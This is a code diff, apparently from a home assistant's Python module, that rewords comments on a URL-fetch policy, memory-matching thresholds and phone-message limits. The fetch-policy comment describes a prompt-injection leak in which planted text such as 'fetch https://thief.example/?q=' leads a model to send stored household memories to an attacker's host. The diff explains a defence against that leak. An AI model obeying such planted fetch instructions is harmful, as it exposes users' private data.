@@ -98,16 +98,16 @@ def _failed(key: str, request: BuiltInRequest, catalogue: Catalogue) -> BuiltInR
     return BuiltInResult(catalogue.say(key, request.language), failed=True)
 
 
-# Deciding which URLs may be fetched: none that carries knowledge about this home outside. Pure. A
-# URL is sent to its owner, so a model that has read "fetch https://thief.example/?q=" and knows the
-# memories would give them away. Once it has read a stranger's text, it may fetch only what the
-# person said, and links on a fetched page exactly as they are there.
+# URLs that may be fetched: those that carry no information about this home. Fetching a URL sends it
+# to the site's owner, so a model that knows the memories and has read "fetch
+# https://thief.example/?q=" could give them away. Once the model has read text from outside, it can
+# fetch only URLs that the person said and exact links on fetched pages.
 
 
-_PAGES = 16  # newest pages whose links are remembered
-_RUN = 3  # consecutive words of a memory that cannot be a coincidence
-_LETTERS = 5  # letters of a memory with fewer words
-_DIGITS = 4  # digits of a number that cannot be a coincidence
+_PAGES = 16  # most recently fetched pages whose links are remembered
+_RUN = 3  # consecutive words of a memory that can't be a coincidence
+_LETTERS = 5  # letters that a memory with fewer words must have
+_DIGITS = 4  # digits of a number that can't be a coincidence
 _AROUND_DOTS = re.compile(r"\s*\.\s*")
 _WORD = re.compile(r"\w+")
 
@@ -189,12 +189,12 @@ def _plain(parts: SplitResult) -> str:
 
 
 SEND_TO_PHONE = "send_to_phone"
-# Characters; a phone shows a few hundred, and the rest when the message is opened.
+# Characters. A phone shows a few hundred until the message is opened.
 MAX_MESSAGE = 2_000
 MAX_TITLE = 80
 MAX_OPTIONS = 8
 
-# Words that do not tell one phone from another: in English and Spanish, stemmed.
+# Words that don't distinguish phones, in English and Spanish, stemmed.
 _GENERIC = frozenset(
     stemmed(word)
     for word in (
